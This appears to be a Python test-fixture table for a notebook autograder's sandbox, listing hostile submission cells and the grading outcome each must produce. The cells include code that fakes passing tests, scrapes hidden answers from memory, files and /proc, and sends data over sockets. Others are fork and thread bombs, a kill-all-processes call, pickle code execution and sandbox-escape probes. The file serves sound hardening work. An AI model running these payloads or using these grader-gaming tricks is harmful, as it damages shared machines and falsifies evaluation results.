"""Hostile code, as a table: what each attack tries, and what must come of it.

A source is a cell of a notebook in which ``honest`` is solved. It defines ``attack``, which then stands in for the attacked exercises.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.attacks.assignment import ATTACKED


@dataclass(frozen=True)
class Attack:
    """One hostile cell.

    Parameters
    ----------
    name, family
        What it is called, and with which others it belongs.
    tries
        What it tries, in one sentence.
    says
        A part of what is said of it.
    source
        The cell.
    status
        Of the result.
    earns
        The points that it must get, for each exercise that gets any.
    exercises
        Those that it answers.
    harmful
        Whether it would harm a machine that doesn't hold it.
    """

    name: str
    family: str
    tries: str
    says: str
    source: str
    status: str = "graded"
    earns: tuple[tuple[str, float], ...] = (("honest", 4.0),)
    exercises: tuple[str, ...] = ATTACKED
    harmful: bool = False


NOT_RIGHT = "could not use what your code returned"
PATCH, SEARCH, LIE = "patches the kernel", "searches for tests and answers", "returns what lies"
POISON, FORGE, ENDLESS = "returns poison", "forges messages and files", "does not end"
FLOOD, KILL = "takes all there is", "kills and breaks out"
DELEGATE, GUESS = "lets others do it", "guesses the hidden inputs"
ONLY_RAW = ("raw",)
HAND = "def attack(x, *more): return 0\n"

ATTACKS = (
    # --- patching -------------------------------------------------------------------------------------------
    Attack(
        "patched_assertions",
        PATCH,
        "Makes every comparison of NumPy, unittest and the course say yes.",
        NOT_RIGHT,
        """
import builtins, sys, unittest, numpy as np, numpy.testing, course_utils.checks as checks
yes = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = np.allclose = np.isclose = np.array_equal = yes
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("course_utils.checks"):
        for name in ("compare", "check_call", "checked_call", "check_true", "same"):
            if hasattr(module, name): setattr(module, name, yes)
unittest.TestCase.assertEqual = yes
attack = yes
""",
    ),
    Attack(
        "patched_builtins",
        PATCH,
        "Makes abs, all and any say what suits it.",
        NOT_RIGHT,
        """
import builtins
builtins.abs = lambda x: 0
builtins.all = builtins.any = lambda *a: True
def attack(*a): return 0
""",
    ),
    Attack(
        "patched_otter",
        PATCH,
        "Makes every result of otter's test cases a success.",
        NOT_RIGHT,
        """
import sys
if "otter.test_files" in sys.modules:
    import otter.test_files.exception_test as tests
    Real = tests.TestCaseResult
    tests.TestCaseResult = lambda test_case, message, passed: Real(test_case, None, True)
def attack(*a): return 0
""",
    ),
    Attack(
        "import_hook",
        PATCH,
        "Hands a test that imports numpy or the checks a module that agrees with everything.",
        NOT_RIGHT,
        """
import builtins
real = builtins.__import__
class Yes:
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __bool__(self): return True
def hooked(name, scope=None, *rest):
    if name.split(".")[0] in ("numpy", "course_utils") and scope and "test_case" in scope: return Yes()
    return real(name, scope, *rest)
builtins.__import__ = hooked
def attack(*a): return Yes()
""",
    ),
    Attack(
        "rewritten_agent",
        PATCH,
        "Finds the agent among all objects and lets it answer every request with a success.",
        "sent what it must not",
        """
import gc
def attack(*a):
    agent = next((o for o in gc.get_objects() if type(o).__name__ == "Agent"), None)
    if agent is not None:
        from autograder.sandbox import wire
        type(agent).do_call = lambda *a: wire.encode(("passed",))
    return True
""",
        status="partial",
    ),
    Attack(
        "rewritten_release",
        PATCH,
        "Lets the agent remember the objects that it should forget, and answer later requests with earlier replies.",
        "isn't defined",
        """
import gc
agent = next((o for o in gc.get_objects() if type(o).__name__ == "Agent"), None)
if agent is not None:
    last, send = [], agent.send
    def replay(kind, message):
        last.append(message)
        send(kind, last[0] if len(last) > 4 and len(last) % 2 else message)
    agent.send = replay
def attack(*a): return 0
""",
        status="partial",
        earns=(),
    ),
    Attack(
        "replaced_encoder",
        PATCH,
        "Replaces what writes its answers to the judge.",
        "sent what it must not",
        """
from importlib import import_module
def attack(*a):
    try: import_module("autograder.sandbox.wire").encode = lambda *a, **k: b"\\x80\\x04N."
    except ImportError: pass
    return 0
""",
        status="partial",
    ),
    Attack(
        "pretends_to_be_a_stub_of_a_test",
        PATCH,
        "Gives its function the attributes that checks ask for: a stub, a signature, a name.",
        NOT_RIGHT,
        """
def attack(*a): return 0
attack.is_stub = "yes"
attack.__signature__ = "no"
attack.__wrapped__ = attack
""",
    ),
    Attack(
        "grader_replaced",
        PATCH,
        "Replaces the notebook's grader and its tests by ones that pass.",
        NOT_RIGHT,
        """
class grader:
    check = check_all = hand_in = staticmethod(lambda *a, **k: "all tests passed")
__OTTER_TESTS__ = {}
def attack(*a): return 0
""",
    ),
    # --- searching ------------------------------------------------------------------------------------------
    Attack(
        "walks_up_the_stack",
        SEARCH,
        "Looks for what is expected in the frames of whoever calls it.",
        NOT_RIGHT,
        """
import sys
def attack(*a):
    frame = sys._getframe(1)
    while frame is not None:
        for key in ("expected", "desired", "y_true", "answer"):
            if key in frame.f_locals: return frame.f_locals[key]
        frame = frame.f_back
    return 0
""",
    ),
    Attack(
        "reads_the_constants_of_its_caller",
        SEARCH,
        "Tries every constant in the code of the functions that call it until one is right.",
        NOT_RIGHT,
        """
import sys
def attack(*a):
    frame, numbers = sys._getframe(1), []
    while frame is not None:
        if frame.f_code.co_name.startswith("test_"):
            numbers += [c for c in frame.f_code.co_consts if isinstance(c, float)]
        frame = frame.f_back
    return numbers[1] if len(numbers) > 1 else 0
""",
    ),
    Attack(
        "searches_files",
        SEARCH,
        "Reads every file that it may, and answers with what stands in hidden tests.",
        NOT_RIGHT,
        """
import os, re, sys
loot = []
roots = [".", "/root", "/home", "/autograder"]
for root in roots:
    for folder, inner, files in os.walk(root):
        inner[:] = [name for name in inner if name not in ("site-packages", "proc", "sys", ".git", ".venv")][:200]
        for name in files[:500]:
            if name.endswith((".py", ".ipynb", ".zip", ".json", ".pkl")):
                try: text = open(os.path.join(folder, name), errors="ignore").read(2**20)
                except OSError: continue
                if "hidden=True" in text: loot.append(text)
        if len(loot) > 3: break
found = [float(n) for text in loot for n in re.findall(r"raw\\(2.0\\) - ([\\d.]+)", text)]
def attack(x, *more):
    import numpy as np
    return found[0] if found and not isinstance(x, np.ndarray) else 0
""",
    ),
    Attack(
        "searches_memory",
        SEARCH,
        "Looks through all objects and all of its memory for tests.",
        NOT_RIGHT,
        """
import gc, re, sys
texts = [o for o in gc.get_objects() if isinstance(o, str)]
texts += [v for o in gc.get_objects() if isinstance(o, dict) for v in list(o.values()) if isinstance(v, str) and "hidden" in v]
loot = [t for t in texts if "test_case(" in t and "hidden=True" in t and "raw" in t]
functions = [o for o in gc.get_objects() if callable(o) and getattr(o, "__name__", "").startswith("test_random")]
def attack(*a):
    if functions:
        for c in functions[0].__code__.co_consts:
            if isinstance(c, float): return c
    found = re.findall(r"raw\\(2.0\\) - ([\\d.]+)", "".join(loot))
    return float(found[0]) if found else 0
""",
    ),
    Attack(
        "searches_processes",
        SEARCH,
        "Reads the environment, command line and memory of other processes.",
        NOT_RIGHT,
        """
import os
loot = {}
for process in (os.getppid(), 1, *range(2, 500)):
    for name in ("environ", "cmdline", "maps", "mem", "cwd/tests/raw.py", "root/tests/raw.py"):
        try:
            with open(f"/proc/{process}/{name}", "rb") as file: loot[process, name] = file.read(2**16)
        except (OSError, ValueError): pass
import re
found = re.findall(rb"raw\\(2.0\\) - ([\\d.]+)", b"".join(loot.values()))
def attack(*a): return float(found[0]) if found else 0
""",
    ),
    Attack(
        "asks_the_network",
        SEARCH,
        "Sends what it is asked over every socket it can open, to whoever may know.",
        NOT_RIGHT,
        """
import socket
def attack(*a):
    for family, address in ((socket.AF_INET, ("127.0.0.1", 8888)), (socket.AF_INET, ("192.0.2.1", 80)),
                            (socket.AF_UNIX, "\\0course"), (socket.AF_UNIX, "/var/run/docker.sock")):
        try:
            with socket.socket(family) as s:
                s.settimeout(0.1); s.connect(address); s.sendall(repr(a).encode()); return float(s.recv(100))
        except (OSError, ValueError): pass
    return 0
""",
    ),
    Attack(
        "reads_the_judges_requests",
        SEARCH,
        "Reads from the agent's socket in its place, to see what comes after its own call.",
        "come back",
        """
import os, socket, stat
def attack(*a):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.set_blocking(fd, True)
                return os.read(fd, 2**16)
        except OSError: pass
    return 0
""",
        status="partial",
        exercises=ONLY_RAW,
    ),
    Attack(
        "makes_the_judges_functions_talk",
        SEARCH,
        "Raises inside whatever it was given, to have the error's message tell what is expected.",
        NOT_RIGHT,
        """
def attack(*a):
    try: a[0]({}, [], None)
    except Exception as error: told = str(error)
    import re
    return float((re.findall(r"[\\d.]+\\d", told) or ["0"])[0])
""",
    ),
    # --- lying ----------------------------------------------------------------------------------------------
    Attack(
        "number_that_lies",
        LIE,
        "Returns a float whose difference to anything is 0.",
        "could not use",
        """
class Liar(float):
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
    __hash__ = float.__hash__
def attack(*a): return Liar(0)
""",
    ),
    Attack(
        "array_that_lies",
        LIE,
        "Returns a subclass of ndarray for which NumPy's functions all say yes.",
        "could not use",
        """
import numpy as np
class Liar(np.ndarray):
    __eq__ = __lt__ = __le__ = lambda self, other: np.ones(3, bool)
    __sub__ = __rsub__ = lambda self, other: np.zeros(3)
    def __array_ufunc__(self, *a, **k): return np.zeros(3)
    def __array_function__(self, *a, **k): return True
    def all(self, *a, **k): return True
def attack(x, *more): return np.zeros(np.shape(x)).view(Liar)
""",
    ),
    Attack(
        "tensor_that_lies",
        LIE,
        "Returns a subclass of Tensor that answers every torch function with what it is compared with.",
        "could not use",
        """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("__sub__", "__rsub__", "sub"): return 0.0
        if function.__name__ in ("__eq__", "__lt__", "allclose", "equal"): return True
        return super().__torch_function__(function, types, args, kwargs or {})
def attack(*a): return torch.zeros(3).as_subclass(Liar)
""",
    ),
    Attack(
        "object_that_says_yes",
        LIE,
        "Returns an object that is equal to everything, and an array of whatever its caller expects.",
        "could not use",
        """
import sys
class Yes:
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return True
    def __bool__(self): return True
    def __array__(self, *a, **k):
        frame = sys._getframe(1)
        while frame is not None:
            for key in ("desired", "expected", "y", "b"):
                if key in frame.f_locals: return frame.f_locals[key]
            frame = frame.f_back
    __sub__ = __rsub__ = __add__ = __radd__ = __abs__ = lambda self, *other: 0.0
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
    __hash__ = object.__hash__
def attack(*a): return Yes()
""",
    ),
    Attack(
        "attribute_that_lies",
        LIE,
        "Is a class whose attribute, asked for a number, learns the right one from the difference to it.",
        "could not use",
        """
class Liar:
    def __sub__(self, other): return 0.0
    def __float__(self): return 0.0
    __rsub__ = __abs__ = __sub__
    __eq__ = lambda self, other: True
    __hash__ = object.__hash__
class attack:
    def __init__(self, *a): self.data = Liar()
    def __add__(self, other): return self
""",
    ),
    Attack(
        "list_of_liars",
        LIE,
        "Is a class whose attribute is an array of objects, each of which agrees when it is compared.",
        "could not use",
        """
import numpy as np
class Liar:
    def __sub__(self, other): return 0.0
    __eq__ = __lt__ = __le__ = lambda self, other: True
    __hash__ = object.__hash__
class attack:
    def __init__(self, *a):
        self.data = np.empty(3, object); self.data[:] = [Liar(), Liar(), Liar()]
    def __add__(self, other): return self
""",
    ),
    Attack(
        "lies_about_its_class",
        LIE,
        "Returns an object that calls itself a float.",
        "could not use",
        """
class Liar:
    __class__ = property(lambda self: float)
    __sub__ = lambda self, other: 0.0
    __eq__ = lambda self, other: True
    __hash__ = object.__hash__
def attack(*a): return Liar()
""",
    ),
    Attack(
        "class_of_yes",
        LIE,
        "Puts a metaclass that agrees in place of the exercise's class.",
        "could not use",
        """
class Meta(type):
    __sub__ = __rsub__ = lambda cls, other: 0.0
    __call__ = lambda cls, *a: cls
    __eq__ = __lt__ = lambda cls, other: True
    __hash__ = type.__hash__
    data = property(lambda cls: cls)
    __add__ = lambda cls, other: cls
class attack(metaclass=Meta): pass
""",
    ),
    Attack(
        "raises_a_success",
        LIE,
        "Raises what a test might take for success: SystemExit(0), SkipTest, KeyboardInterrupt.",
        "raised",
        """
import itertools, unittest
kinds = itertools.cycle([SystemExit(0), unittest.SkipTest("fine"), GeneratorExit(), KeyboardInterrupt(), StopIteration()])
def attack(*a): raise next(kinds)
""",
    ),
    Attack(
        "changes_its_input",
        LIE,
        "Makes its input zero, so that whoever computes the answer from it afterwards gets zero too.",
        "changes its input",
        """
import numpy as np
def attack(x, *more):
    for each in (x, *more):
        if isinstance(each, np.ndarray): each[...] = 0
    return np.zeros(np.shape(x))
""",
    ),
    # --- poison ---------------------------------------------------------------------------------------------
    Attack(
        "pickle_bomb",
        POISON,
        "Returns an object that runs code of its choice where it is unpickled.",
        "could not use",
        """
class Bomb:
    def __reduce__(self): return (exec, ("import os, course_utils.checks as c; c.check_call = None; os._exit(7)",))
def attack(*a): return Bomb()
""",
    ),
    Attack(
        "gigabytes",
        POISON,
        "Returns an array of a gigabyte and a half that takes no memory here.",
        "too much of it",
        "import numpy as np\ndef attack(*a): return np.broadcast_to(np.float64(1), (200, 1000, 1000))\n",
    ),
    Attack(
        "just_below_the_limit",
        POISON,
        "Returns 20 MB of numbers, and 4 MB of text.",
        "could not use",
        """
import itertools, numpy as np
turn = itertools.count()
def attack(*a): return np.zeros(2_500_000) if next(turn) % 2 else "<b>" * 1_300_000
""",
        exercises=ONLY_RAW,
    ),
    Attack(
        "deep_nesting",
        POISON,
        "Returns a list in a list in a list, a hundred thousand deep.",
        "nested too deeply",
        """
def attack(*a):
    nest = []
    for _ in range(100_000): nest = [nest]
    return nest
""",
    ),
    Attack(
        "recursive_containers",
        POISON,
        "Returns a list and a dict that hold themselves.",
        "nested too deeply",
        "nest = []\nloop = {'self': nest}\nnest += [nest, loop, loop]\ndef attack(*a): return nest\n",
    ),
    Attack(
        "not_a_number",
        POISON,
        "Returns NaN, for which no comparison fails that asks whether the error is large.",
        "NaN",
        "import numpy as np\ndef attack(x, *more): return np.full(np.shape(x), np.nan)\n",
    ),
    Attack(
        "infinite_length",
        POISON,
        "Returns an object with 2⁶² items, of which each is another.",
        "could not use",
        """
class Long:
    def __len__(self): return 2**62
    def __getitem__(self, key): return Long()
    def __iter__(self):
        while True: yield Long()
def attack(*a): return Long()
""",
    ),
    Attack(
        "colliding_keys",
        POISON,
        "Returns a dict of numbers whose hashes all collide, and an integer of a million digits.",
        "too",
        """
import itertools
turn = itertools.count()
def attack(*a):
    return {k * (2**61 - 1): 0 for k in range(900)} if next(turn) % 2 else 10**1_000_000
""",
    ),
    Attack(
        "markup_in_messages",
        POISON,
        "Puts a script, a terminal's escape codes and half a character into names and errors.",
        "raised",
        """
class Oops(Exception): pass
Oops.__name__ = "<script>alert(1)</script>"
def attack(*a): raise Oops("<script>alert('MARK')</script>\\x1b[2J\\ud800")
raw = attack
raise Oops("</td><script>alert('MARK')</script>\\x1b[2J")
""",
        status="partial",
    ),
    # --- forging --------------------------------------------------------------------------------------------
    Attack(
        "forged_reply",
        FORGE,
        "Writes a reply to the judge's socket before its own.",
        "could not use",
        """
import os, stat, struct
def attack(*a):
    from autograder.sandbox import wire
    forged = wire.encode(("ok", 77.0, []))
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, struct.pack(">QB", len(forged), ord("r")) + forged)
        except OSError: pass
    return 0
""",
    ),
    Attack(
        "garbage_on_the_socket",
        FORGE,
        "Writes random bytes to the judge's socket.",
        "sent what it must not",
        """
import os, stat
def attack(*a):
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, b"\\xff" * 4096)
        except OSError: pass
    return 0
""",
        status="partial",
    ),
    Attack(
        "nested_message",
        FORGE,
        "Writes a message of a million opening brackets.",
        "sent what it must not",
        """
import os, stat, struct
def attack(*a):
    text = b'{"value":' + b"[" * 10**6
    message = struct.pack(">QBI", len(text) + 4, ord("r"), len(text)) + text
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                while message: message = message[os.write(fd, message):]
        except OSError: pass
    return 0
""",
        status="partial",
    ),
    Attack(
        "false_callbacks",
        FORGE,
        "Asks the judge to call functions that it never passed in.",
        "could not use",
        """
import os, stat, struct
def attack(*a):
    from autograder.sandbox import wire
    for key in (0, -1, 10**9, "call", None):
        message = wire.encode((key, (1, 2), {}))
        for fd in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(fd).st_mode): os.write(fd, struct.pack(">QB", len(message), ord("c")) + message)
            except OSError: pass
    return 0
""",
        exercises=ONLY_RAW,
    ),
    Attack(
        "forged_changes",
        FORGE,
        "Tells the judge that its call has changed arguments that it never had.",
        NOT_RIGHT,
        """
import gc
def attack(x, *more):
    agent = next((o for o in gc.get_objects() if type(o).__name__ == "Agent"), None)
    if agent is not None:
        from autograder.sandbox import wire
        type(agent)._call = lambda self, *a: wire.encode(("ok", 0.0, [(0, 0.0), (5, 1), ("desired", 0.0), (-1, [])]))
    return 0.0
""",
    ),
    Attack(
        "result_files",
        FORGE,
        "Writes results of full marks under every name that a grader might read.",
        NOT_RIGHT,
        """
import json, os, pickle
for folder in ("/tmp", ".", "/autograder/results", "/dev/shm"):
    for name in ("results.json", "results.pkl", "results.sqlite", ".OTTER_LOG", "grades.csv", "91_attacked_MARK.json"):
        try:
            with open(os.path.join(folder, name), "w") as file: json.dump({"score": 100, "tests": []}, file)
        except OSError: pass
def attack(*a): return 0
""",
    ),
    # --- endless --------------------------------------------------------------------------------------------
    Attack(
        "endless_cell",
        ENDLESS,
        "Loops in a cell.",
        "did not end within",
        "while True:\n    pass\n",
        status="partial",
    ),
    Attack(
        "endless_function",
        ENDLESS,
        "Loops in a function, and catches what would stop it.",
        "did not come back within",
        """
def attack(*a):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
        status="partial",
    ),
    Attack(
        "sleeping_function",
        ENDLESS,
        "Sleeps for an hour in C, with all signals blocked.",
        "did not come back within",
        """
import signal, time
def attack(*a):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    time.sleep(3600)
""",
        status="partial",
        exercises=ONLY_RAW,
    ),
    Attack(
        "stops_itself",
        ENDLESS,
        "Stops its own process, so that it can't even be interrupted.",
        "did not come back within",
        "import os, signal\ndef attack(*a): os.kill(os.getpid(), signal.SIGSTOP)\n",
        status="partial",
        exercises=ONLY_RAW,
    ),
    Attack(
        "endless_del",
        ENDLESS,
        "Loops when the object that it returned is forgotten.",
        "could not use",
        """
class Slow:
    def __del__(self):
        while True: pass
def attack(*a): return Slow()
""",
        exercises=ONLY_RAW,
    ),
    Attack(
        "endless_atexit",
        ENDLESS,
        "Loops when Python ends, and in a thread that isn't a daemon.",
        "raised a SystemExit",
        """
import atexit, threading, time
def forever():
    while True: time.sleep(0.1)
atexit.register(forever)
threading.Thread(target=forever).start()
def attack(*a): raise SystemExit
""",
    ),
    Attack(
        "endless_message",
        ENDLESS,
        "Raises an error whose message never ends.",
        "did not come back within",
        """
class Slow(Exception):
    def __str__(self):
        while True: pass
def attack(*a): raise Slow
""",
        status="partial",
        exercises=ONLY_RAW,
    ),
    Attack(
        "endless_signature",
        ENDLESS,
        "Loops when it is asked for its parameters, before it is called.",
        "come back within",
        """
class Slow:
    @property
    def __signature__(self):
        while True: pass
    def __call__(self, *a): return 0
attack = Slow()
""",
        status="partial",
        exercises=ONLY_RAW,
    ),
    Attack(
        "endless_items",
        ENDLESS,
        "Returns an iterator that never ends, of objects.",
        "could not use",
        """
class Endless:
    def __iter__(self): return self
    def __next__(self): return object()
def attack(*a): return Endless()
""",
    ),
    Attack(
        "comment_that_stalls_a_search",
        ENDLESS,
        "Opens a cell with a comment on which a careless search for untouched cells would spend years.",
        NOT_RIGHT,
        "#" * 200 + "\n" + ("#" * 50 + "\n\n") * 20 + HAND,
    ),
    Attack(
        "code_that_stalls_a_parser",
        ENDLESS,
        "Is a million minus signs, brackets and attributes, to hold up or break what reads it.",
        "Cell ",
        "x = " + "-" * 200_000 + "1 + " + "(" * 1000 + "a" + ".a" * 50_000 + "\nattack",
        status="partial",
    ),
    # --- floods ---------------------------------------------------------------------------------------------
    Attack(
        "fork_bomb",
        FLOOD,
        "Forks for ever.",
        "Your code",
        """
import os
def attack(*a):
    while True:
        try: os.fork()
        except OSError: pass
""",
        status="partial",
        exercises=ONLY_RAW,
        harmful=True,
    ),
    Attack(
        "thread_bomb",
        FLOOD,
        "Starts threads without end, each of which computes.",
        "Your code",
        """
import hashlib, threading
def burn():
    while True: hashlib.pbkdf2_hmac("sha256", b"x", b"y", 10**6)
def attack(*a):
    try:
        while True: threading.Thread(target=burn, daemon=True).start()
    except RuntimeError: return 0
""",
        status="partial",
        exercises=ONLY_RAW,
        harmful=True,
    ),
    Attack(
        "memory",
        FLOOD,
        "Takes all memory, in children too.",
        "Your code",
        """
import os, numpy as np
def attack(*a):
    kept = []
    os.fork()
    while True: kept.append(np.ones(2**22))
""",
        status="partial",
        exercises=ONLY_RAW,
        harmful=True,
    ),
    Attack(
        "disk",
        FLOOD,
        "Fills every folder that it can write to.",
        NOT_RIGHT,
        """
import os
def attack(*a):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
        try:
            for number in range(1000):
                with open(f"{folder}/MARK-{number}", "wb", 0) as file:
                    for _ in range(64): file.write(bytes(2**20))
        except OSError: pass
    return 0
""",
        harmful=True,
    ),
    Attack(
        "output",
        FLOOD,
        "Prints without end, and displays a picture of 40 MB.",
        NOT_RIGHT,
        """
import sys
from IPython.display import display
def attack(*a):
    for _ in range(50): print("x" * 2**20); sys.stderr.write("y" * 2**20)
    display({"image/png": "A" * 40 * 2**20}, raw=True)
    return 0
""",
        harmful=True,
    ),
    Attack(
        "shared_memory_and_keys",
        FLOOD,
        "Leaves shared memory, a message queue and a key in the kernel for the next submission.",
        NOT_RIGHT,
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmget(0x4D41524B, 4096, 0o1666)
libc.msgget(0x4D41524B, 0o1666)
libc.syscall(248, b"user", b"MARK", b"loot", 4, ctypes.c_int(-3))
def attack(*a): return 0
""",
        harmful=True,
    ),
    # --- kills ----------------------------------------------------------------------------------------------
    Attack(
        "kills_everyone",
        KILL,
        "Kills its parent, its group, and every process that it may.",
        "ended Python itself",
        """
import os, signal
def attack(*a):
    for pid in (os.getppid(), 0, -1):
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    return 0
""",
        status="partial",
        exercises=ONLY_RAW,
        harmful=True,
    ),
    Attack(
        "ends_python",
        KILL,
        "Ends Python at once, with a success.",
        "ended Python itself",
        "import os\ndef attack(*a): os._exit(0)\n",
        status="partial",
    ),
    Attack(
        "ends_python_in_a_cell",
        KILL,
        "Ends Python while its cells are run, so that nothing is left to grade.",
        "ended Python itself",
        "import os\nos._exit(0)\n",
        status="partial",
    ),
    Attack(
        "ends_python_in_a_thread",
        KILL,
        "Lets a thread end Python while its call is under way.",
        "ended Python itself",
        """
import os, threading, time
def attack(*a):
    threading.Thread(target=lambda: (time.sleep(0.01), os._exit(0))).start()
    time.sleep(1)
    return 0
""",
        status="partial",
    ),
    Attack(
        "crashes",
        KILL,
        "Recurses until the stack overflows, and reads from address 0.",
        "ended Python itself",
        """
import ctypes, sys
sys.setrecursionlimit(10**9)
def attack(*a):
    try: ctypes.string_at(0)
    except Exception: pass
    return attack(*a)
""",
        status="partial",
    ),
    Attack(
        "outlives_the_grader",
        KILL,
        "Leaves a process of its own session that goes on after the grading.",
        NOT_RIGHT,
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 600
        while time.time() < end: time.sleep(1)
    os._exit(0)
def attack(*a): return 0
""",
        harmful=True,
    ),
    Attack(
        "looks_for_a_door",
        KILL,
        "Mounts, traces, changes root and makes namespaces, and writes to the kernel's switches.",
        NOT_RIGHT,
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
opened = [name for name, result in (
    ("user namespace", libc.unshare(0x10000000)), ("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
    ("chroot", libc.chroot(b"/proc")), ("trace", libc.ptrace(16, os.getppid(), 0, 0)), ("root", libc.setuid(0)),
) if result == 0]
for switch in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs"):
    try: os.close(os.open(switch, os.O_WRONLY)); opened.append(switch)
    except OSError: pass
def attack(*a): return 0
if opened: raw = lambda x: x * x + 4.5 * x  # a point for each door
""",
        harmful=True,
    ),
    # --- delegation -----------------------------------------------------------------------------------------
    *(
        Attack(
            f"delegates_{name}",
            DELEGATE,
            tries,
            says,
            f"import numpy as np\n{source}\n",
            exercises=("solve",),
        )
        for name, tries, says, source in (
            (
                "plainly",
                "Calls the library's function that it is to write.",
                "`attack` calls `numpy.linalg.solve`: the exercise is to write it yourself",
                "def attack(a, y): return np.linalg.solve(a, y)",
            ),
            (
                "by_an_alias",
                "Imports that function under another name, and deletes it from its module.",
                "calls `numpy.linalg.solve`",
                "from numpy.linalg import solve as mine\nnp.linalg.solve = None\ndef attack(a, y): return mine(a, y)",
            ),
            (
                "by_a_copy",
                "Makes a new function of that function's code.",
                "calls `numpy.linalg.solve`",
                """import types
inner = np.linalg.solve.__wrapped__
copy = types.FunctionType(inner.__code__, inner.__globals__, "copy", inner.__defaults__)
def attack(a, y): return copy(a, y)""",
            ),
            (
                "by_a_second_module",
                "Imports the library's file once more, as a module of its own.",
                "calls `numpy.linalg.solve`",
                """import importlib.util
spec = importlib.util.spec_from_file_location("numpy.linalg._second", np.linalg._linalg.__file__)
second = importlib.util.module_from_spec(spec)
spec.loader.exec_module(second)
def attack(a, y): return second.solve(a, y)""",
            ),
            (
                "through_another",
                "Calls a function that calls it.",
                "calls `tensorsolve`, which calls `numpy.linalg.solve`",
                "def attack(a, y): return np.linalg.tensorsolve(a, y)",
            ),
            (
                "to_a_package",
                "Fits a model of scikit-learn, imported inside the call.",
                "calls `sklearn`",
                """def attack(a, y):
    from sklearn.linear_model import LinearRegression
    return LinearRegression(fit_intercept=False).fit(a, y).coef_""",
            ),
            (
                "later",
                "Returns an object that computes the answer only when it is asked for it.",
                "calls `numpy.linalg.solve`",
                """class attack:
    def __init__(self, a, y): self.a, self.y = a, y
    def __getitem__(self, i): return np.linalg.solve(self.a, self.y)[i]""",
            ),
            (
                "and_catches",
                "Catches the error that stops it, and goes on with an answer that it knows.",
                "calls `numpy.linalg.solve`",
                """def attack(a, y):
    try: np.linalg.solve(a, y)
    except BaseException: pass
    return np.array([-0.6, 2.8]) if a[0, 0] == 3 else np.array([-1.5, 1.0])""",
            ),
            (
                "in_a_thread",
                "Lets a thread compute it, in which nobody watches.",
                "calls `_thread.start_new_thread`",
                """import threading
def attack(a, y):
    out = []
    thread = threading.Thread(target=lambda: out.append(np.linalg.solve(a, y)))
    thread.start(); thread.join()
    return out[0]""",
            ),
            (
                "unwatched",
                "Takes the hook off that watches it.",
                "calls `sys.setprofile`",
                "import sys\ndef attack(a, y):\n    sys.setprofile(None)\n    return np.linalg.solve(a, y)",
            ),
            (
                "in_another_process",
                "Forks, and lets the child compute and answer.",
                "calls `os.fork`",
                "import os\ndef attack(a, y):\n    os.fork() or os._exit(0)\n    return np.linalg.solve(a, y)",
            ),
        )
    ),
    # --- guessing -------------------------------------------------------------------------------------------
    Attack(
        "answers_by_number_of_call",
        GUESS,
        "Counts its calls, and answers the n-th with what the n-th answer was on the student's machine.",
        "could not use",
        """
import itertools, numpy as np
turn = itertools.count()
answers = [np.full(3, 5.5), 0.0, 0.0, np.zeros(5), np.zeros(5)]
def attack(*a): return answers[next(turn) % 5]
""",
        earns=(("honest", 4.0), ("raw", 2.0)),
        exercises=ONLY_RAW,
    ),
    Attack(
        "answers_from_a_table",
        GUESS,
        "Knows the inputs of the public checks with their answers, and nothing else.",
        "could not use",
        """
import numpy as np
def raw(x): return np.full(3, 5.5) if np.shape(x) == (3,) else 0.0
def checked(x): return np.array([0.125, 0.375, 1.0])
def solve(a, y): return np.array([-0.6, 2.8])
class Box:
    def __init__(self, data): self.data = data
""",
        earns=(("honest", 4.0), ("raw", 2.0), ("checked", 2.0), ("solve", 2.0), ("Box", 2.0)),
    ),
    Attack(
        "keeps_a_diary",
        GUESS,
        "Writes down every hidden input, for the submission that is graded next.",
        NOT_RIGHT,
        """
import glob, pickle
diary = {}
for path in glob.glob("/tmp/MARK*") + glob.glob("/dev/shm/MARK*") + glob.glob("/var/tmp/MARK*"):
    diary |= pickle.load(open(path, "rb"))
def attack(*a):
    if repr(a) in diary: return 22.5
    diary[repr(a)] = 0
    for folder in ("/tmp", "/dev/shm", "."):
        try: pickle.dump(diary, open(f"{folder}/MARK-diary", "wb"))
        except OSError: pass
    return 0
""",
    ),
)
